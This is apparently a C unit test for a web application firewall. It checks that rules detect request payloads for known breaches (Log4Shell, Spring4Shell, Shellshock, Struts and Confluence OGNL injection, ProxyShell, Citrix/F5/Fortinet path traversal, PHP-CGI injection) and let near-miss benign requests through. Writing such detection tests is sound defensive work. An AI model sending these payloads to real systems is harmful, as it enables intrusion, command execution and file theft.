/* SPDX-License-Identifier: Apache-2.0 */
/* Known breaches (src/waf/rules/known-breaches.conf): what each rule must find, and what is near and must pass. */
#include "groups.h"

#include "run.h"
#include "waf/waf_rules.h"

#include <stdio.h>
#include <string.h>

#define FORM "Content-Type: application/x-www-form-urlencoded\n"
#define JSON "Content-Type: application/json\n"

/* want 0: nothing may match. */
struct breach_case {
	unsigned want;
	const char *line, *fields, *body;
};

static const struct breach_case cases[] = {
	/* Log4Shell */
	{ 5001001, "GET /?x=$%7Bjndi:ldap://h/a%7D", NULL, NULL },
	{ 5001001, "GET /", "User-Agent: ${jndi:rmi://h/a}\n", NULL },
	{ 5001002, "GET /", "X-Api: ${${lower:j}ndi:ldap://h/a}\n", NULL },
	{ 5001002, "GET /", "X-Api: ${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://h}\n", NULL },
	{ 5001001, "POST /", JSON, "{\"a\":[\"${jndi:dns://h}\"]}" },
	{ 5001001, "POST /", FORM, "a=%24%7Bjndi%3Aldap%3A%2F%2Fh%7D" },
	{ 0, "GET /?q=what+is+jndi:+a+name+service", NULL, NULL },
	{ 0, "GET /?q=$%7Buser.name%7D", NULL, NULL },
	{ 0, "GET /?q=$%7BHOME%7D/jndi.properties", NULL, NULL },
	/* Spring */
	{ 5001010, "POST /", FORM, "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x" },
	{ 5001010, "GET /?class.classLoader.URLs%5B0%5D=jar:http://h/a.jar", NULL, NULL },
	{ 0, "GET /?class=first&classLoader=none", NULL, NULL },
	{ 0, "POST /", FORM, "class.module=maths&subclass.name=x" },
	{ 5001011, "POST /functionRouter",
	  "spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec(\"id\")\n", "x" },
	{ 0, "POST /functionRouter", "spring.cloud.function.routing-expression: uppercase\n", "x" },
	{ 5001012, "POST /actuator/gateway/routes/a", JSON,
	  "{\"filters\":[{\"args\":{\"value\":\"#{new String('a')}\"}}]}" },
	{ 0, "POST /actuator/gateway/routes/a", JSON, "{\"uri\":\"https://a.test\"}" },
	/* Shellshock */
	{ 5001020, "GET /cgi-bin/a", "User-Agent: () { :; }; /bin/id\n", NULL },
	{ 5001020, "GET /cgi-bin/a", "Referer: () {_; } >_[$($())] { id; }\n", NULL },
	{ 0, "GET /?q=function+()+%7B+return+1+%7D", NULL, NULL },
	{ 0, "GET /", "User-Agent: Mozilla/5.0 (X11; Linux) { }\n", NULL },
	/* Struts */
	{ 5001030, "POST /",
	  "Content-Type: %{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}\n", "x" },
	{ 0, "POST /", "Content-Type: text/plain; charset=utf-8\n", "50 %{off}" },
	{ 5001031, "GET /%24%7B(%23_memberAccess%5B%22allowStaticMethodAccess%22%5D=true)%7D/a.action", NULL, NULL },
	{ 5001031, "GET /?id=%25%7B(%23context%5B'xwork'%5D).(1)%7D", NULL, NULL },
	{ 0, "GET /?discount=10%25%7B%7D", NULL, NULL },
	{ 5001032, "GET /a.action?redirect:$%7B1%2B1%7D", NULL, NULL },
	{ 0, "GET /a.action?redirect=/home", NULL, NULL },
	{ 5001033, "POST /upload.action", FORM, "uploadFileName=../../webapps/a.jsp" },
	{ 0, "POST /upload.action", FORM, "uploadFileName=photo.jpg" },
	/* Confluence */
	{ 5001040, "GET /%24%7B%40java.lang.Runtime%40getRuntime().exec(%22id%22)%7D/", NULL, NULL },
	{ 0, "GET /pages/%24price", NULL, NULL },
	{ 5001041, "POST /pages/doenterpagevariables.action", FORM,
	  "queryString=%5cu0027%2b%7bClass.forName(%5cu0027a%5cu0027)%7d%2b%5cu0027" },
	{ 0, "POST /pages/doenterpagevariables.action", FORM, "queryString=O'Neill+and+sons" },
	{ 5001042, "GET /server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false", NULL,
	  NULL },
	{ 5001043, "POST /json/setup-restore.action", FORM, "a=b" },
	{ 0, "GET /json/setup.action", NULL, NULL },
	/* Exchange */
	{ 5001050,
	  "GET "
	  "/autodiscover/autodiscover.json?@evil.test/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.test",
	  NULL, NULL },
	{ 5001050, "GET /autodiscover/autodiscover.json?a@b.test/owa/?X&Protocol=powershell", NULL, NULL },
	{ 0, "POST /autodiscover/autodiscover.xml", "Content-Type: text/xml\n", "<a/>" },
	{ 5001051, "GET /ecp/x.js", "Cookie: X-BEResource=server/EWS/Exchange.asmx?a=~1942062522\n", NULL },
	{ 0, "GET /owa/", "Cookie: X-BackEndCookie=abc\n", NULL },
	/* Citrix, F5 */
	{ 5001060, "GET /vpn/../vpns/cfg/smb.conf", NULL, NULL },
	{ 5001060, "GET /vpn/%2e%2e/vpns/portal/scripts/newbm.pl", NULL, NULL },
	{ 0, "GET /vpn/index.html", NULL, NULL },
	{ 5001070, "GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", NULL, NULL },
	{ 0, "GET /tmui/login.jsp", NULL, NULL },
	{ 5001071, "POST /mgmt/tm/util/bash",
	  "Connection: X-F5-Auth-Token, X-Forwarded-Host\nContent-Type: application/json\n", "{}" },
	{ 0, "POST /mgmt/tm/util/bash", "Connection: keep-alive\nContent-Type: application/json\n", "{}" },
	/* MOVEit */
	{ 5001080, "POST /moveitisapi/moveitisapi.dll?action=m2", FORM, "a=b" },
	{ 0, "GET /moveitisapi/moveitisapi.dll?action=capa", NULL, NULL },
	{ 5001081, "POST /guestaccess.aspx", FORM, "Arg12=x'%3B+insert+into+a" },
	{ 0, "POST /guestaccess.aspx", FORM, "Arg12=anna" },
	/* React */
	{ 5001090, "POST /", "Next-Action: x\nContent-Type: application/json\n",
	  "{\"then\":\"$1:__proto__:then\",\"_response\":{\"_prefix\":\"process\"}}" },
	{ 0, "POST /", JSON, "{\"then\":\"we go home\",\"constructor\":\"Bob\"}" },
	{ 0, "POST /", "Next-Action: 7f3a\nContent-Type: text/plain;charset=UTF-8\n", "[\"$K1\",{\"id\":1}]" },
	/* PHP */
	{ 5001100, "GET /index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", NULL, NULL },
	{ 5001100, "GET /index.php?-d+allow_url_include%3Don", NULL, NULL },
	{ 0, "GET /index.php?-d=1", NULL, NULL },
	{ 0, "GET /docs?q=allow_url_include", NULL, NULL },
	{ 5001101, "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", FORM, "x" },
	{ 0, "GET /phpunit/docs", NULL, NULL },
	{ 5001102, "GET /index.php?s=/Index/%5Cthink%5Capp/invokefunction", NULL, NULL },
	{ 0, "GET /?q=think+app", NULL, NULL },
	{ 5001103, "POST /user/register?element_parents=account/mail/%23value", FORM,
	  "mail[%23post_render][]=exec&mail[%23markup]=id" },
	{ 0, "POST /", FORM, "tag=%23markup&color[0]=%23fff" },
	/* Apache httpd, Ivanti, PAN-OS, Fortinet */
	{ 5001110, "GET /cgi-bin/.%2e/.%2e/etc/passwd", NULL, NULL },
	{ 5001110, "GET /icons/.%%32%65/etc/passwd", NULL, NULL },
	{ 0, "GET /images/100%25/a.png", NULL, NULL },
	{ 5001120, "GET /api/v1/totp/user-backup-code/../../license/keys-status/%3bid%3b", NULL, NULL },
	{ 0, "GET /api/v1/totp/user-backup-code/new", NULL, NULL },
	{ 5001121, "POST /ssl-vpn/hipreport.esp",
	  "Cookie: SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/a`id`\n", "x" },
	{ 0, "GET /ssl-vpn/a", "Cookie: SESSID=4f2a9c81-d7e6\n", NULL },
	{ 5001122, "GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", NULL, NULL },
	{ 0, "GET /remote/fgt_lang?lang=en", NULL, NULL },
	{ 5001123, "PUT /api/v2/cmdb/system/admin/admin",
	  "Forwarded: for=\"[127.0.0.1]:8000\";by=\"[127.0.0.1]:9000\"\n", "{}" },
	{ 0, "GET /api/v2/cmdb/system", "Forwarded: for=192.0.2.1\n", NULL },
	/* ScreenConnect, TeamCity, Jenkins, WebLogic */
	{ 5001130, "GET /SetupWizard.aspx/anything", NULL, NULL },
	{ 0, "GET /SetupWizard.aspx", NULL, NULL },
	{ 5001131, "GET /hax?jsp=/app/rest/users;.jsp", NULL, NULL },
	{ 0, "GET /a?jsp=/login.jsp", NULL, NULL },
	{ 5001132,
	  "GET "
	  "/securityRealm/user/admin/descriptorByName/"
	  "org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?value=x",
	  NULL, NULL },
	{ 0, "GET /job/a/descriptorByName/jenkins.branch.OrganizationFolder/fillItems", NULL, NULL },
	{ 5001140, "GET /console/css/%252e%252e%252fconsole.portal", NULL, NULL },
	{ 0, "GET /console/css/main.css", NULL, NULL },
	{ 5001141, "POST /wls-wsat/CoordinatorPortType", "Content-Type: text/xml\n", "<a/>" },
	{ 0, "GET /wls/docs", NULL, NULL },
};

static struct waf_rules *loaded(void)
{
	struct waf_rules *w;
	struct diag d;

	diag_init(&d);
	if (waf_rules_build(NULL, NULL, 0, &w, &d) != OK) {
		fprintf(stderr, "%s: %s\n", d.where, d.text);
		fail();
	}
	return w;
}

static bool has(const char *ids, unsigned id)
{
	char text[16];

	snprintf(text, sizeof text, "%u", id);
	return strstr(ids, text) != NULL;
}

static void breaches_are_found_and_near_misses_pass(void **state)
{
	struct waf_rules *w = loaded();
	const struct eval_overlay detect = { .has_engine = true, .engine = ENGINE_DETECTION };
	struct plan *plan = NULL;
	struct run run;
	struct diag d;
	size_t bad = 0;

	diag_init(&d);
	assert_int_equal(plan_new(w->set, 1, &plan, &d), OK);
	for (int planned = 0; planned < 2; planned++) {
		run = (struct run){ 0 };
		run_init_set(&run, w->set, planned ? plan : NULL);
		run.overlay = &detect;
		for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
			const struct breach_case *c = &cases[i];
			const char *got = run_request(&run, c->line, c->fields, slice_str(c->body));
			if (c->want ? has(got, c->want) : strstr(got, "50010") == NULL && strstr(got, "50011") == NULL)
				continue;
			fprintf(stderr, "%s, %s, %s: got \"%s\", want %u\n", c->line, c->fields ? c->fields : "",
				c->body ? c->body : "", got, c->want);
			bad++;
		}
		plan_scratch_fini(&run.scratch);
		eval_scratch_fini(&run.scratch);
		arena_reset(&run.arena);
		arena_pool_fini(&run.pool);
	}
	plan_free(plan);
	waf_rules_free(w);
	assert_int_equal(bad, 0);
}

/* Every rule names what it is about, and has a case that it finds. */
static void every_rule_names_its_breach_and_has_a_case(void **state)
{
	struct waf_rules *w = loaded();
	size_t rules = 0;

	for (size_t i = 0; i < w->set->rules_n; i++) {
		const struct rule *r = w->set->rules[i];
		bool cve = false, tried = r->id == 5001061 || r->id == 5001062; /* by length */
		if (r->is_marker || w->parts[r->index] != WAF_PART_BREACHES)
			continue;
		for (size_t k = 0; k < r->tags_n; k++)
			cve |= slice_starts(r->tags[k], SLICE("cve/"));
		for (size_t k = 0; k < sizeof cases / sizeof *cases; k++)
			tried |= cases[k].want == r->id;
		if (!cve || !tried)
			fprintf(stderr, "rule %u: %s\n", r->id, cve ? "no case" : "no CVE");
		assert_true(cve && tried);
		rules++;
	}
	assert_true(rules > 30);
	waf_rules_free(w);
}

int test_breaches(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(breaches_are_found_and_near_misses_pass),
		cmocka_unit_test(every_rule_names_its_breach_and_has_a_case),
	};

	return cmocka_run_group_tests_name("breaches", tests, NULL, NULL);
}
